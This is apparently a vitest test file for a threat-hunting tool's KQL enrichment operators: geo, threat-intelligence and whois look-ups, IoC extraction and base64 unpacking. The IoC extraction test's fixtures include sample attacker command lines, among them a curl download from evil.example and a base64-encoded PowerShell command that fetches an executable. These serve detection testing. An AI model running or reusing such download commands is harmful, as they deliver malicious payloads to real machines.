/** `invoke ti_lookup(…)` and its like in queries: over frames, local workspaces and the rows of a cloud workspace. */
import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { createServer, type RequestListener } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, afterEach, describe, expect, test } from "vitest";
import { smallPack } from "../../src/enrich/geo/small-pack.js";
import { createSession, frameFrom, TILookup, whois, withSession, type Frame, type Session } from "../../src/index.js";
import { createInlineCompiler } from "../../src/kql/compiler.js";
import { cutAtEnrichment, withLocalEnrichment } from "../../src/session/cloud-enrich.js";
import type { Driver } from "../../src/query/api.js";
import { createWorkspace } from "../../src/workspace/index.js";

const root = mkdtempSync(join(tmpdir(), "huntbook-kql-enrich-"));
const closers: (() => unknown)[] = [];
afterEach(async () => {
  for (const close of closers.splice(0).reverse()) await close();
});
afterAll(() => rmSync(root, { recursive: true, force: true }));

/** A service that says how bad an address is, and what it was asked. */
async function serve(handler: RequestListener) {
  const asked: string[] = [];
  const server = createServer((request, response) => {
    asked.push(request.url ?? "");
    handler(request, response);
  });
  await new Promise<void>(done => server.listen(0, "127.0.0.1", done));
  closers.push(() => new Promise(done => server.close(done)));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, asked };
}

let count = 0;
async function open({ providers = "", offline = false } = {}): Promise<Session> {
  const dir = join(root, `case-${++count}`);
  const [dataDir, workspace] = [join(dir, "data"), join(dir, "workspace")];
  mkdirSync(join(dataDir, "geo"), { recursive: true });
  writeFileSync(join(dataDir, "geo/places-1.pack"), smallPack());
  await createWorkspace(workspace, { clock: { kind: "pinned", now: "2026-01-13T18:00:00Z" } });
  writeFileSync(
    join(workspace, "sites.yaml"),
    "sites:\n  - { site: Dublin, country: IE, city: Dublin, cidr: 10.1.0.0/16 }\n",
  );
  const session = createSession({
    ...{ dataDir, workspace, offline, createCompiler: createInlineCompiler },
    configPorts: {
      ...{ env: {}, cwd: dir, home: dir },
      read: path => (path === join(dir, "msticpyconfig.yaml") ? `Huntbook: {}\n${providers}` : undefined),
    },
  });
  closers.push(() => session.close());
  return session;
}

const run = (session: Session, rows: readonly Readonly<Record<string, unknown>>[], text: string): Promise<Frame> =>
  withSession(session, async () => (await frameFrom(rows)).kql(text));

const abuse = (url: string): string => `TIProviders:\n  AbuseIPDB: { Args: { AuthKey: k, BaseUrl: "${url}" } }\n`;
const scores: RequestListener = (request, response) =>
  response.end(
    JSON.stringify({
      data: { abuseConfidenceScore: request.url?.includes("8.8.8.8") === true ? 100 : 0, totalReports: 3 },
    }),
  );

test("geo_lookup stands places beside every row, in the order of a sort before it", async () => {
  const session = await open();
  const frame = await run(
    session,
    [
      { Ip: "10.1.2.3", N: 2 },
      { Ip: "85.214.149.236", N: 3 },
      { Ip: "", N: 1 },
      { Ip: "192.0.2.1", N: 4 },
    ],
    '| sort by N asc | invoke geo_lookup("Ip") | project N, Ip, GeoCountry, GeoCity, GeoAsn, GeoLatitude, GeoSource',
  );
  expect((await frame.rows()).map(r => Object.values(r))).toEqual([
    [1, "", "", "", null, null, ""],
    [2, "10.1.2.3", "Ireland", "Dublin", null, null, "sites"],
    [3, "85.214.149.236", "Germany", "Berlin", 6724, 52.5234, "DB-IP"],
    [4, "192.0.2.1", "", "", null, null, ""],
  ]);
  expect(frame.completeness.state).toBe("complete");
});

test("over a table of a workspace, and twice in one query", async () => {
  const session = await open();
  const text =
    'print A = "8.8.8.8", B = "1.1.1.1" | invoke geo_lookup("A") | project-rename ACountry = GeoCountry | invoke geo_lookup("B") | project ACountry, GeoAsName';
  const frame = await withSession(session, async () => (await session.workspace()).query(text));
  expect(await frame.rows()).toEqual([{ ACountry: "United States", GeoAsName: "Cloudflare, Inc." }]);
});

test("ti_lookup: the worst severity, who knows it, and what was never sent", async () => {
  const { url, asked } = await serve(scores);
  const session = await open({ providers: abuse(url) });
  const rows = ["8.8.8.8", "8.8.8[.]8", "1.1.1.1", "10.0.0.1", "fileserver"].map(Ip => ({ Ip }));
  const frame = await run(session, rows, '| invoke ti_lookup("Ip", providers = "AbuseIPDB")');
  const shown = (await frame.rows()).map(r => [r["Ip"], r["TiSeverity"], r["TiStatus"], r["TiProviders"]]);
  const given = rows.map(r => r.Ip);
  shown.sort((a, b) => given.indexOf(a[0] as string) - given.indexOf(b[0] as string));
  expect(shown).toEqual([
    ["8.8.8.8", "high", "known", ["AbuseIPDB"]],
    ["8.8.8[.]8", "high", "known", ["AbuseIPDB"]],
    ["1.1.1.1", "information", expect.any(String), expect.any(Array)],
    ["10.0.0.1", "unknown", "not sent: private use (RFC 1918)", []],
    ["fileserver", "unknown", "'fileserver' is no observable that is recognised", []],
  ]);
  expect(asked.map(a => /8\.8\.8\.8|1\.1\.1\.1|10\.0\.0\.1/.exec(a)?.[0]).sort()).toEqual(["1.1.1.1", "8.8.8.8"]);
  expect(frame.completeness.state).toBe("complete");
});

test("a look-up where nothing was set up makes no demo: its indicators say why they do not answer", async () => {
  const dir = join(root, `case-${++count}`);
  mkdirSync(join(dir, "data"), { recursive: true });
  const session = createSession({
    ...{ dataDir: join(dir, "data"), offline: true, createCompiler: createInlineCompiler },
    configPorts: { env: {}, cwd: dir, home: dir, read: () => undefined },
  });
  closers.push(() => session.close());
  const results = await withSession(session, () => new TILookup().lookupIoc("198.51.100.140"));
  expect(results).toMatchObject([
    { Provider: "AzSTI", Result: false, Message: expect.stringMatching(/no workspace .*huntbook start/) as string },
  ]);
  expect(existsSync(join(dir, "data/contoso"))).toBe(false);
  expect(session.hasDemo).toBe(false);
});

test("a list of whois questions is asked several at a time, few at once, and answered in its order", async () => {
  const session = await open();
  let [now, most] = [0, 0];
  const { url } = await serve((request, response) => {
    const path = request.url ?? "";
    if (path.startsWith("/lists/"))
      return void response.end(JSON.stringify({ services: [[["8.0.0.0/8"], [`http://${request.headers.host}/`]]] }));
    most = Math.max(most, (now += 1));
    setTimeout(() => {
      now -= 1;
      response.end(JSON.stringify({ objectClassName: "ip network", handle: path.slice(4) }));
    }, 30);
  });
  const ips = Array.from({ length: 20 }, (_, i) => (i === 7 ? "10.0.0.1" : `8.8.8.${i}`));
  const records = await withSession(session, () => whois(ips, { bootstrapUrl: `${url}/lists`, publicOnly: false }));
  expect(records.map(r => ("handle" in r ? r.handle : r.unknown))).toEqual(
    ips.map(ip => (ip === "10.0.0.1" ? (expect.stringMatching(/private use/) as string) : ip)),
  );
  expect(most).toBeGreaterThan(1);
  expect(most).toBeLessThanOrEqual(6);
});

test("offline, ti_lookup says so in the row and in the completeness; whois_lookup too", async () => {
  const { url, asked } = await serve(scores);
  const session = await open({ providers: abuse(url), offline: true });
  const ti = await run(session, [{ Ip: "8.8.8.8" }], '| invoke ti_lookup("Ip", "AbuseIPDB")');
  expect((await ti.rows())[0]).toMatchObject({
    TiSeverity: "unknown",
    TiStatus: expect.stringContaining("offline") as string,
  });
  expect(ti.completeness).toMatchObject({ state: "partial", causes: [{ kind: "source-unavailable" }] });
  const who = await run(session, [{ Ip: "8.8.8.8" }, { Ip: "10.0.0.1" }], '| invoke whois_lookup("Ip") | sort by Ip');
  const status = (await who.rows()).map(r => r["WhoisStatus"]);
  expect(status).toEqual([expect.stringContaining("offline"), expect.stringContaining("private use")]);
  expect(who.completeness.state).toBe("partial");
  const counted = await run(session, [{ Ip: "8.8.8.8" }], '| invoke ti_lookup("Ip", "AbuseIPDB") | count');
  expect(counted.completeness.causes).toMatchObject([{ affects: "values" }]);
  expect(asked).toEqual([]);
});

test("ioc_extract and b64_unpack give one row for each thing found", async () => {
  const session = await open();
  const encoded = Buffer.from("curl http://evil.example/a.exe -o x", "utf8").toString("base64");
  const rows = [
    { Host: "a", CommandLine: "ping 8.8.8.8 && curl hxxp://evil[.]example/b" },
    { Host: "b", CommandLine: "notepad" },
    { Host: "c", CommandLine: `powershell -enc ${encoded}` },
  ];
  const found = await run(
    session,
    rows,
    '| invoke ioc_extract("CommandLine", types = "ipv4, url") | project Host, IoCType, Observable, IoCNote | sort by IoCType asc',
  );
  expect((await found.rows()).map(r => Object.values(r))).toEqual([
    ["a", "ipv4", "8.8.8.8", ""],
    ["a", "url", "http://evil.example/b", "defanged in the text"],
  ]);
  const unpacked = await run(
    session,
    rows,
    '| invoke b64_unpack("CommandLine") | invoke ioc_extract("B64Text") | where IoCType == "url" | project Host, B64Encoding, Observable',
  );
  expect(await unpacked.rows()).toEqual([
    { Host: "c", B64Encoding: expect.any(String) as string, Observable: "http://evil.example/a.exe" },
  ]);
});

describe("what is wrong is said at the operator", () => {
  test.each([
    ['| invoke geo_lookup("Ipp")', "did you mean 'Ip'?"],
    ["| invoke geo_lookup(Ip)", "Ip"],
    ['| invoke ti_lookup("Ip", providers = "Nobody")', "no provider 'Nobody' is loaded"],
    ['| invoke ioc_extract("Ip", types = "ipv5")', "no type 'ipv5'"],
  ])("%s", async (text, message) => {
    const session = await open();
    await expect(run(session, [{ Ip: "8.8.8.8" }], text)).rejects.toMatchObject({
      message: expect.stringContaining(message) as string,
    });
  });

  test("more different values than a function looks at are refused, not cut", async () => {
    const session = await open();
    const text = 'range N from 1 to 1001 step 1 | extend D = strcat("d", N, ".com") | invoke whois_lookup("D")';
    await expect(withSession(session, async () => (await session.workspace()).query(text))).rejects.toMatchObject({
      diagnostics: [
        { code: "kql/enrichment", message: expect.stringContaining("1,000 different values at most") as string },
      ],
    });
  });

  test("a function of the query's own with the same name is called instead", async () => {
    const session = await open();
    const text = "let geo_lookup = (T:(Ip:string), c:string) { T | extend Mine = c }; Frame | invoke geo_lookup('x')";
    expect(await (await run(session, [{ Ip: "8.8.8.8" }], text)).rows()).toEqual([{ Ip: "8.8.8.8", Mine: "x" }]);
  });
});

describe("on a cloud workspace", () => {
  test.each([
    ["T | where A == 1", undefined],
    ["T | where A has '| invoke geo_lookup(' // | invoke geo_lookup(", undefined],
    ['T | take 5 | invoke geo_lookup("Ip") | count', ["T | take 5 ", "", '| invoke geo_lookup("Ip") | count']],
    [
      'let n = 5; let t = ago(1d); T | where TimeGenerated > t | invoke geo_lookup("Ip") | take n;',
      [
        "let n = 5; let t = ago(1d); T | where TimeGenerated > t ",
        "let n = 5;\n",
        '| invoke geo_lookup("Ip") | take n;',
      ],
    ],
    ["let geo_lookup = (T:(*)) { T }; T | invoke geo_lookup()", undefined],
  ])("%s is cut at the first enrichment", (text, cut) => {
    const found = cutAtEnrichment(text);
    expect(found === undefined ? undefined : [found.remote, found.lets, found.local]).toEqual(cut);
  });

  test("inside brackets it cannot be cut, and says what to do", () => {
    expect(() => cutAtEnrichment('T | join (U | invoke geo_lookup("Ip")) on Ip')).toThrow(
      expect.objectContaining({ code: "query/enrichment-inside" }),
    );
  });

  test("the service gets the first part, the rest runs here, and the provenance says where", async () => {
    const session = await open();
    const sent: string[] = [];
    const rows = await withSession(session, () => frameFrom([{ Ip: "8.8.8.8" }, { Ip: "85.214.149.236" }]));
    const driver = withLocalEnrichment(
      {
        environment: "MSSentinel",
        query: async (text: string) => {
          sent.push(text);
          return rows;
        },
      } as unknown as Driver,
      () => session.store(),
    );
    const frame = (await withSession(session, () =>
      driver.query('let c = "Germany"; SigninLogs | take 10 | invoke geo_lookup("Ip") | where GeoCountry == c'),
    )) as Frame;
    expect(sent).toEqual(['let c = "Germany"; SigninLogs | take 10 ']);
    expect((await frame.rows()).map(r => r["Ip"])).toEqual(["85.214.149.236"]);
    expect(frame.provenance.source).toContain("| invoke geo_lookup");
  });
});
